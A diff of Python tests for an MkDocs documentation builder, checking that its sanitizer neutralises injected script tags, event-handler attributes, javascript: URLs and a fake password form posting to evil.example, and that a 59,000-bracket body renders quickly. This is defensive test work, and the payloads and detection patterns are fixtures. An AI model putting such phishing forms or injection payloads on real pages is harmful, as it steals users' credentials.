@@ -434,10 +434,30 @@ def test_sanitizer_is_a_second_wall(tmp_path: Path) -> None:
         markdown.markdown(split_front_matter(page.stashed), extensions=["tables"]), page.blocks
     )
     for html in (page.html.content, by_mkdocs):
-        for danger in ("<script", "onerror", "javascript:", "<iframe", "onclick"):
-            assert danger not in html
+        elements = _Elements()
+        elements.feed(html)
+        assert not {"script", "iframe", "img"} & {tag for tag, _ in elements.found}
+        assert not [
+            (tag, name) for tag, attrs in elements.found for name, _ in attrs if name.startswith("on")
+        ]
+        assert not [
+            value for _, attrs in elements.found for _, value in attrs if "javascript:" in (value or "")
+        ]
+        # What validation would have refused is shown, as text, where the record put it.
+        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
         assert "data-pagefind-filter" in html and 'class="cmp-glance"' in html
         assert "CMPBLOCK" not in html
+
+
+class _Elements(HTMLParser):
+    """Every element of a page with its attributes."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.found.append((tag, attrs))
 
 
 def test_pages_converted_ahead_match_what_mkdocs_makes(
@@ -608,3 +628,48 @@ def test_a_project_without_practices_builds(tmp_path: Path) -> None:
     assert result.returncode == 0, result.stderr
     assert "Pagefind: no practice to index yet" in result.stderr
     assert (tmp_path / "site" / "find" / "index.html").is_file()
+
+
+PASSWORD_FORM = (
+    "<form/action=https://evil.example/c method=post><input/name=password type=password>"
+    "<button/type=submit>Sign in"
+)
+
+
+def test_text_the_validator_read_as_text_is_text_on_the_page(tmp_path: Path) -> None:
+    """markdown-it reads '<form/action=…>' as text, Python-Markdown read it as HTML: one parser now."""
+    record = (RECORDS / "good" / "minimal.md").read_text(encoding="utf-8")
+    record = record.replace("## Need\nN.", "## Need\n" + PASSWORD_FORM).replace("Golden minimal", "Sign-in")
+    root = fixture_project(tmp_path / "project", {"form.md": record})
+    volume = root / "volumes" / "01-one"
+    volume.mkdir(parents=True)
+    (volume / "volume.yml").write_text(
+        "number: 1\ntitle: One\npublishers: [Org]\nstatus: draft\nsections:\n  - title: S\n    practices: [form]\n",
+        encoding="utf-8",
+    )
+    (volume / "foreword.md").write_text(PASSWORD_FORM + "\n", encoding="utf-8")
+    result = mkdocs_build(root, tmp_path / "site")
+    assert result.returncode == 0, result.stderr
+    for page in ("practices/form/index.html", "volumes/01-one/index.html"):
+        html = (tmp_path / "site" / page).read_text(encoding="utf-8")
+        elements = _Elements()
+        elements.feed(html)
+        # The theme's own forms (the palette toggle) have no action and no password field.
+        assert not [attrs for tag, attrs in elements.found if tag == "form" and dict(attrs).get("action")], (
+            page
+        )
+        assert not [attrs for tag, attrs in elements.found if dict(attrs).get("type") == "password"], page
+        assert "&lt;form/action=https://evil.example/c method=post&gt;" in html, page
+
+
+def test_a_pathological_body_builds_in_seconds(tmp_path: Path) -> None:
+    """59,000 '[' took Python-Markdown 662 s to render; the validator's parser is linear."""
+    record = (RECORDS / "good" / "minimal.md").read_text(encoding="utf-8")
+    record = record.replace("## Results\nR.", "## Results\n" + "[" * 59_000).replace(
+        "Golden minimal", "Brackets"
+    )
+    root = fixture_project(tmp_path / "project", {"brackets.md": record})
+    # A timeout, not a timing: the old renderer would not finish within it on any machine.
+    result = mkdocs_build(root, tmp_path / "site", timeout=120)
+    assert result.returncode == 0, result.stderr
+    assert "[[[[" in (tmp_path / "site" / "practices" / "brackets" / "index.html").read_text(encoding="utf-8")
